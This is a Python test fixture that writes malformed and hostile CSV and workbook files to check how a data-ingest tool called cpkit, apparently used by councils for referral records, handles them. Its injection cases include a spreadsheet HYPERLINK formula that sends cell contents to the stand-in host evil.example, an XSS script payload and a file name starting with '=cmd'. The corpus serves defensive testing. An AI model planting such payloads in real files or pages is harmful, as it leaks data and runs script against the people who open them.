"""A corpus of hostile inputs, built into a folder by ``build(folder)``.

Each case is a file (or a path) a real council could hand cpkit, with what must happen: the
exit code, and for a file cpkit reads, how many records it really holds (so the summary's
'Rows read' can be checked against the truth, not against itself). Run as a script to write
the corpus into a folder for trying by hand: ``python tests/hostile_corpus.py /tmp/corpus``.
"""

from __future__ import annotations

import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HEADER = "Referral ID,Child ID,Date of Referral,Cohort,Gender,Primary issue,Closed date"
GOOD = [
    "R0001,000123,03/04/2023,Child in care,Female,Placement,30/06/2023",
    "R0002,000456,15/05/2023,Child in need,Male,Contact,",
    "R0003,000789,20/06/2023,Care leaver,Female,Housing,",
]


@dataclass
class Case:
    name: str
    build: Callable[[Path], Path]  # writes the input into the folder, returns its path
    code: int  # the exit code cpkit ingest must give
    records: int | None = None  # the records the file really holds (when it is read)
    words: str = ""  # a phrase the error line must contain
    options: list[str] = field(default_factory=list)


def _csv(name: str, data: bytes | str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    return build


def _text(*rows: str, header: str = HEADER, end: str = "\r\n") -> str:
    return end.join([header, *rows]) + end


def _workbook(name: str, fill: Callable[[object], None]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import xlsxwriter

        path = folder / name
        book = xlsxwriter.Workbook(str(path))
        fill(book)
        book.close()
        return path

    return build


def _sheet(
    rows: list[list[object]], top: int = 0, left: int = 0, far: tuple[int, int] | None = None
):
    def fill(book) -> None:  # type: ignore[no-untyped-def]
        sheet = book.add_worksheet("Referrals")
        for index, row in enumerate(rows):
            sheet.write_row(top + index, left, row)
        if far is not None:
            sheet.write(*far, "stray")

    return fill


def _cells(line: str) -> list[object]:
    return list(line.split(","))


ROWS = [HEADER.split(","), *(_cells(r) for r in GOOD)]


def _error_cells(book) -> None:  # type: ignore[no-untyped-def]
    sheet = book.add_worksheet("Referrals")
    for index, row in enumerate(ROWS):
        sheet.write_row(index, 0, row)
    sheet.write_formula(2, 2, "=1/0", None, "#DIV/0!")
    sheet.write_formula(3, 6, "=NA()", None, "#N/A")


def _numeric_ids(book) -> None:  # type: ignore[no-untyped-def]
    sheet = book.add_worksheet("Referrals")
    sheet.write_row(0, 0, HEADER.split(","))
    for index, line in enumerate(GOOD, start=1):
        cells: list[object] = _cells(line)
        cells[1] = int(str(cells[1]))
        sheet.write_row(index, 0, cells)


def _empty_sheets(book) -> None:  # type: ignore[no-untyped-def]
    book.add_worksheet("One")
    book.add_worksheet("Two")


def _truncated_xlsx(folder: Path) -> Path:
    whole = _workbook("whole.xlsx", _sheet(ROWS))(folder)
    path = folder / "truncated.xlsx"
    path.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    whole.unlink()
    return path


def _zip_named_csv(folder: Path) -> Path:
    path = folder / "archive.csv"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("referrals.csv", _text(*GOOD))
    return path


def _folder_named_csv(folder: Path) -> Path:
    path = folder / "looks_like_a_file.csv"
    path.mkdir()
    return path


def _empty_folder(folder: Path) -> Path:
    path = folder / "nothing_here"
    path.mkdir()
    (path / "readme.txt").write_text("no data")
    return path


def _missing(folder: Path) -> Path:
    return folder / "no_such_file.csv"


LONG = "x" * 300_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(1)">'

CASES: list[Case] = [
    # quoting and record boundaries
    Case(
        "unclosed quote",
        _csv("unclosed.csv", _text('R0001,000123,03/04/2023,"Child in care', *GOOD[1:])),
        2,
        words="unclosed_quote",
    ),
    Case(
        "unclosed quote at the end",
        _csv(
            "unclosed_end.csv",
            _text(*GOOD[:2], 'R0003,000789,20/06/2023,Care leaver,Female,"Housing,'),
        ),
        2,
        words="never closed",
    ),
    Case(
        "quote closed records later",
        _csv(
            "swallowed.csv",
            _text(
                'R0001,000123,03/04/2023,"Child in care,Female,Placement,',
                *GOOD[1:],
                'x,y,z",a,b,c,d',
            ),
        ),
        2,
        words="unclosed_quote",
    ),
    Case(
        "text after a closing quote",
        _csv(
            "after_quote.csv",
            _text('R0001,000123,03/04/2023,"Child" in care,Female,Placement,', *GOOD[1:]),
        ),
        2,
        words="text after a closing quote",
    ),
    Case(
        "quoted note over lines",
        _csv(
            "multiline.csv",
            _text(
                'R0001,000123,03/04/2023,Child in care,Female,"Placement\nand contact",', *GOOD[1:]
            ),
        ),
        0,
        3,
    ),
    Case(
        "cell over 128 KB",
        _csv(
            "long_cell.csv",
            _text(f'R0001,000123,03/04/2023,Child in care,Female,"{LONG}",', *GOOD[1:]),
        ),
        0,
        3,
    ),
    Case(
        "line over 1 MB unquoted",
        _csv(
            "long_line.csv",
            _text(
                "R0001,000123,03/04/2023,Child in care,Female," + "y" * 1_200_000 + ",", *GOOD[1:]
            ),
        ),
        0,
        3,
    ),
    Case(
        "ragged row",
        _csv(
            "ragged.csv",
            _text(
                GOOD[0], "R0002,000456,15/05/2023,Child in need,Male,Contact,,extra,more", GOOD[2]
            ),
        ),
        0,
        3,
    ),
    Case("short row", _csv("short.csv", _text(GOOD[0], "R0002,000456,15/05/2023", GOOD[2])), 0, 3),
    Case("totals row", _csv("totals.csv", _text(*GOOD, "Total,,,,,,")), 0, 4),
    Case(
        "blank lines inside",
        _csv("blank_lines.csv", _text(GOOD[0], "", GOOD[1], ",,,,,,", GOOD[2])),
        0,
        3,
    ),
    Case(
        "title rows above the header",
        _csv(
            "title_rows.csv",
            "Advocacy referrals 2023-24\r\nExported 01/04/2024\r\n\r\n" + _text(*GOOD),
        ),
        0,
        3,
    ),
    Case(
        "header below row 30",
        _csv("deep_header.csv", "note\r\n" * 40 + _text(*GOOD)),
        2,
        words="no dataset recognised",
    ),
    Case("CR line endings", _csv("old_mac.csv", _text(*GOOD, end="\r")), 0, 3),
    Case("LF line endings", _csv("unix.csv", _text(*GOOD, end="\n")), 0, 3),
    Case(
        "mixed line endings",
        _csv(
            "mixed_endings.csv", HEADER + "\n" + GOOD[0] + "\r\n" + GOOD[1] + "\r" + GOOD[2] + "\n"
        ),
        0,
        3,
    ),
    Case("Ctrl-Z at the end", _csv("ctrl_z.csv", _text(*GOOD) + "\x1a"), 0, 4),
    Case("semicolons", _csv("semicolons.csv", _text(*GOOD).replace(",", ";")), 0, 3),
    Case("tabs", _csv("tabs.tsv", _text(*GOOD).replace(",", "\t")), 0, 3),
    Case("pipes", _csv("pipes.csv", _text(*GOOD).replace(",", "|")), 0, 3),
    Case(
        "2,000 columns",
        _csv(
            "wide.csv",
            _text(
                *(g + "," * 1995 for g in GOOD),
                header=HEADER + "".join(f",Extra {i}" for i in range(1995)),
            ),
        ),
        0,
        3,
    ),
    Case(
        "repeated header names",
        _csv("repeated.csv", _text(*(g + ",x" for g in GOOD), header=HEADER + ",Cohort")),
        0,
        3,
    ),
    # encodings
    Case(
        "UTF-16 LE with BOM",
        _csv("utf16le_bom.csv", b"\xff\xfe" + _text(*GOOD).encode("utf-16-le")),
        0,
        3,
    ),
    Case(
        "UTF-16 BE with BOM",
        _csv("utf16be_bom.csv", b"\xfe\xff" + _text(*GOOD).encode("utf-16-be")),
        0,
        3,
    ),
    Case("UTF-16 LE without BOM", _csv("utf16le.csv", _text(*GOOD).encode("utf-16-le")), 0, 3),
    Case("UTF-16 BE without BOM", _csv("utf16be.csv", _text(*GOOD).encode("utf-16-be")), 0, 3),
    Case("UTF-8 with BOM", _csv("utf8_bom.csv", b"\xef\xbb\xbf" + _text(*GOOD).encode()), 0, 3),
    Case(
        "Windows-1252",
        _csv(
            "cp1252.csv",
            _text(*GOOD[:2], "R0003,000789,20/06/2023,Care leaver,Female,Café – £5,").encode(
                "cp1252"
            ),
        ),
        0,
        3,
    ),
    Case(
        "one Windows-1252 line in UTF-8",
        _csv(
            "mixed_encoding.csv",
            (_text(*GOOD[:2])).encode()
            + "R0003,000789,20/06/2023,Care leaver,Female,Café – £5,\r\n".encode("cp1252"),
        ),
        0,
        3,
    ),
    Case(
        "UTF-8 BOM then Windows-1252",
        _csv(
            "bom_cp1252.csv",
            b"\xef\xbb\xbf"
            + _text(*GOOD[:2], "R0003,000789,20/06/2023,Care leaver,Female,Zoë,").encode("cp1252"),
        ),
        0,
        3,
    ),
    Case(
        "bytes no encoding explains",
        _csv(
            "garbled.csv",
            _text(*GOOD[:2]).encode() + b"R0003,000789,20/06/2023,\x81\x8d\x8f\x90,Female,x,\r\n",
        ),
        2,
        words="line 4 holds a byte",
    ),
    Case("NUL bytes", _csv("nul.csv", b"Referral\x00ID,\x00\x01\x02" * 50), 2, words="binary file"),
    # not CSV at all
    Case("empty file", _csv("empty.csv", b""), 2, words="is empty (0 bytes)"),
    Case("only spaces", _csv("spaces.csv", "   \r\n  \r\n"), 2, words="no data"),
    Case("header only", _csv("header_only.csv", HEADER + "\r\n"), 2, words="no data rows"),
    Case("zip named .csv", _zip_named_csv, 2, words="spreadsheet workbook, not CSV text"),
    Case(
        "PDF named .csv",
        _csv("report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"),
        2,
        words="is a PDF",
    ),
    Case(
        "PNG named .csv",
        _csv("picture.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
        2,
        words="binary file",
    ),
    Case(
        "web page named .xlsx",
        _csv("page.xlsx", b"<!DOCTYPE html><html><table><tr><td>1</td></tr></table></html>"),
        2,
        words="web page",
    ),
    Case(
        "xlsx named .xls",
        lambda f: _rename(_workbook("x.xlsx", _sheet(ROWS))(f), "misnamed.xls"),
        2,
        words="Rename it to .xlsx",
    ),
    Case("truncated xlsx", _truncated_xlsx, 2, words="truncated.xlsx"),
    Case(
        "random bytes as xlsx",
        _csv("noise.xlsx", bytes(range(256)) * 8),
        2,
        words="not a .xlsx workbook",
    ),
    Case("a folder named .csv", _folder_named_csv, 2, words="no CSV or spreadsheet files"),
    Case("a folder without data", _empty_folder, 2, words="no CSV or spreadsheet files"),
    Case("no such file", _missing, 2, words="does not exist"),
    Case(
        "unknown suffix", _csv("referrals.json", '{"a": 1}'), 2, words="not a file cpkit can read"
    ),
    # workbooks
    Case(
        "stray cell at XFD1048576",
        _workbook("xfd.xlsx", _sheet(ROWS, far=(1048575, 16383))),
        2,
        words="XFD1048576",
    ),
    Case(
        "stray cell at ZZ200000",
        _workbook("zz.xlsx", _sheet(ROWS, far=(199999, 701))),
        2,
        words="ZZ200000",
    ),
    Case("data from C5", _workbook("offset.xlsx", _sheet(ROWS, top=4, left=2)), 0, 3),
    Case("Excel error cells", _workbook("errors.xlsx", _error_cells), 0, 3),
    Case("ids typed as numbers", _workbook("numbers.xlsx", _numeric_ids), 0, 3),
    Case("every sheet empty", _workbook("blank.xlsx", _empty_sheets), 2, words="no data"),
    Case(
        "workbook header only", _workbook("header.xlsx", _sheet(ROWS[:1])), 2, words="no data rows"
    ),
    # hostile or odd values
    Case(
        "formula payloads",
        _csv(
            "formulas.csv",
            _text(
                f"R0001,000123,03/04/2023,Child in care,Female,{FORMULA.replace(',', ';')},",
                "=R0002,+000456,15/05/2023,Child in need,@Male,-Contact,",
            ),
        ),
        0,
        2,
    ),
    Case(
        "markup payloads",
        _csv(
            "markup.csv",
            _text(f"R0001,000123,03/04/2023,Child in care,Female,{SCRIPT},", *GOOD[1:]),
        ),
        0,
        3,
    ),
    Case(
        "impossible dates and times",
        _csv(
            "dates.csv",
            _text(
                "R0001,000123,05/04/2023 25:99,Child in care,Female,x,",
                "R0002,000456,00000,Child in need,Male,x,",
                "R0003,000789,31/02/2023,Care leaver,Female,x,",
            ),
        ),
        0,
        3,
    ),
    Case(
        "future dates",
        _csv("future.csv", _text("R0001,000123,03/04/2099,Child in care,Female,x,", *GOOD[1:])),
        0,
        3,
    ),
    Case(
        "ids with spaces",
        _csv(
            "spaced_ids.csv", _text("R0001, 000123 ,03/04/2023,Child in care,Female,x,", *GOOD[1:])
        ),
        0,
        3,
    ),
    Case("duplicate keys", _csv("duplicates.csv", _text(GOOD[0], GOOD[0], GOOD[1])), 0, 3),
    Case("unicode file name", _csv("référrals £ 2023–24.csv", _text(*GOOD)), 0, 3),
    Case("quotes in the file name", _csv('it\'s "final" (2).csv', _text(*GOOD)), 0, 3),
    Case("file name starting with =", _csv("=cmd.csv", _text(*GOOD)), 0, 3),
    Case(
        "emoji and right-to-left text",
        _csv(
            "emoji.csv",
            _text("R0001,000123,03/04/2023,Child in care,Female,👍 \u202eevil,", *GOOD[1:]),
        ),
        0,
        3,
    ),
    Case(
        "integers beyond 64 bits",
        _csv(
            "events.csv",
            "Event ID,Date of event,Type,Attendees\r\n"
            "E1,03/04/2023,Forum," + "9" * 40 + "\r\n"
            "E2,04/04/2023,Forum,-99999999999999999999999\r\n"
            "E3,05/04/2023,Forum,12\r\n",
        ),
        0,
        3,
    ),
    # options that cannot work
    Case(
        "--sheet on a CSV",
        _csv("plain.csv", _text(*GOOD)),
        2,
        words="--sheet was given",
        options=["--sheet", "One"],
    ),
    Case(
        "unknown --dataset",
        _csv("plain2.csv", _text(*GOOD)),
        2,
        words="unknown dataset",
        options=["--dataset", "advocacy"],
    ),
    Case(
        "SSDA903 without a year",
        _csv("header.csv", "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n900001,1,14/02/2008,WBRI,,,\n"),
        2,
        words="which SSDA903 collection year",
    ),
    Case(
        "SSDA903 with two years",
        _csv(
            "oc3_2019_to_2024.csv", "CHILD,DOB,IN_TOUCH,ACTIV,ACCOM\n900001,14/02/2006,YES,F2,S\n"
        ),
        2,
        words="which SSDA903 collection year",
    ),
    Case(
        "implausible --collection-year",
        _csv("header_x.csv", "CHILD,SEX,DOB\n1,1,01/01/2008\n"),
        2,
        words="not a plausible year",
        options=["--collection-year", "24"],
    ),
]


def _rename(path: Path, name: str) -> Path:
    target = path.with_name(name)
    path.rename(target)
    return target


def build(folder: Path) -> dict[str, Path]:
    """Write every case's input into ``folder`` (one subfolder per case)."""
    paths = {}
    for index, case in enumerate(CASES):
        sub = folder / f"{index:02d}"
        sub.mkdir(parents=True, exist_ok=True)
        paths[case.name] = case.build(sub)
    return paths


if __name__ == "__main__":
    for name, path in build(Path(sys.argv[1])).items():
        print(f"{name}: {path}")
